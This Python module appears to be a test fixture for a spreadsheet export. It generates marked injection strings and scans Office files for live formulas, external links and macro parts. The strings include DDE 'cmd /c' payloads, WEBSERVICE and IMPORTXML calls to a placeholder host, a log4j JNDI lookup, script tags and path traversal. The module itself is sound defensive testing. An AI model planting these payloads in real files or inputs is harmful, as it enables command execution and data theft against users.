"""Texts that become alive in a careless output, each with a mark of its own: ``KT001``."""

import html
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

COUNT = 600
MARK = re.compile(r"KT\d{3}")

_SHAPES = (
    '=1+1&"{}"',
    "={}+1",
    "=SUM(A1:A9) {}",
    '=HYPERLINK("http://x.vn/{}","bấm")',
    "=cmd|'/c calc {}'!A0",
    '=WEBSERVICE("http://x.vn/{}")',
    '=IMPORTXML("http://x.vn","{}")',
    '{{=SUM(1;"{}")}}',
    '=DDE("cmd";"/c";"{}")',
    "='[ngoài.xlsx]Sheet1'!A1 {}",
    "+84 208 {}",
    "+cmd|'/c calc {}'!A0",
    "-2+3+cmd|'/c {}'!A0",
    "-{}",
    "@SUM(1+1)*cmd|'/c {}'!A0",
    "@{}",
    "\t=1+1 {}",
    "\r=1+1 {}",
    "\n=1+1 {}",
    "a\t=b {}",
    "http://x.vn/{}",
    "https://x.vn/?q={}",
    "mailto:a@b.vn?subject={}",
    "file:///etc/{}",
    "\\\\may-chu\\chung\\{}",
    "internal:Sheet1!A1 {}",
    "external:c:\\{}.xlsx",
    "ftp://x.vn/{}",
    "<script>{}</script>",
    "<f>1+1</f>{}",
    "]]>{}<!--",
    "&lt;{}&gt; &amp; &#61;1",
    "\"{}\" & 'x'",
    "_x003D_1+1 {}",
    "{}_x000D_",
    "'=1+1 {}",
    "\uff1d1+1 {}",
    "\u202e=1+1 {}",
    "\u200b=1+1 {}",
    "\ufeff=1+1 {}",
    "1E{}",
    "{}%",
    "TRUE {}",
    "#REF! {}",
    "${{jndi:ldap://x/{}}}",
    "{{{{7*7}}}} {}",
    "%s%n {}",
    "../../{}",
    "&A&P {}",
    "[@Cột] {}",
)  # fmt: skip


def payloads() -> list[str]:
    """``COUNT`` texts, all different."""
    return [_SHAPES[n % len(_SHAPES)].format(f"KT{n:03d}") for n in range(COUNT)]


_ALIVE = re.compile(
    r"<(?:\w+:)?(?:f|formula\d?|definedName|instrText|ddeLink|oleLink)\b[^>]*>[^<]*"
    r"|<(?:\w+:)?(?:hyperlink|Relationship|fldSimple|oleObject|control)\b[^>]*>"
)
_PARTS = re.compile(
    r"externalLink|vbaProject|embeddings|activeX|connections|queryTable", re.IGNORECASE
)
_OUT = re.compile(r'Target="(?:file:|\\\\|//|[A-Za-z]:)[^"]*"', re.IGNORECASE)
_TEXT = re.compile(r"<(?:\w+:)?t(?:\s[^>]*)?>([^<]*)<")
_ESCAPED = re.compile(r"_x([0-9A-Fa-f]{4})_")


def alive(path: Path) -> Iterator[str]:
    """Formulas, links and fields of an Office file that hold a mark, and parts it must not have."""
    for name, body in _parts(path):
        if _PARTS.search(name):
            yield name
        yield from (one for one in _ALIVE.findall(body) if MARK.search(one))


def leads_out(path: Path) -> Iterator[str]:
    """Targets of an Office file that lie on a machine: ``file:``, ``\\\\may-chu``, ``C:\\``."""
    for name, body in _parts(path):
        if name.endswith(".rels"):
            yield from _OUT.findall(body)


def texts(path: Path) -> set[str]:
    """The texts of a workbook that hold a mark, with single spaces."""
    found = set()
    for name, body in _parts(path):
        if name.startswith("xl/"):
            found |= {
                plain(meant(html.unescape(text)))
                for text in _TEXT.findall(body)
                if MARK.search(text)
            }
    return found


def plain(text: str) -> str:
    """A text with single spaces, without the signs that nobody sees."""
    return " ".join(re.sub("[\u200b\u202e\ufeff]", "", text).split())


def meant(text: str) -> str:
    """What Excel shows of a text in a file, which writes some signs as ``_x000D_``."""
    return _ESCAPED.sub(lambda code: chr(int(code[1], 16)), text)


def _parts(path: Path) -> Iterator[tuple[str, str]]:
    with zipfile.ZipFile(io.BytesIO(path.read_bytes())) as package:
        for name in package.namelist():
            yield name, package.read(name).decode("utf-8", "replace")
